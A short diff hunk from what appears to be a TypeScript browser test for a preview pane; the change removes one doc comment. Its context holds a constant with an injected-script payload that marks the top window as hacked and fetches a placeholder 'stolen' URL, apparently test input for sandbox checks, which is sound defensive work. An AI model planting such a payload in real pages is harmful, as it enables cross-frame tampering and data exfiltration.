@@ -8,7 +8,6 @@ import { pane, shared, show } from '../acts/preview-acts.ts';
 
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 
-/** Only of preview requests. */
 function recordRanges(page: Page): (string | undefined)[] {
   const ranges: (string | undefined)[] = [];
   page.on('request', (request) => {
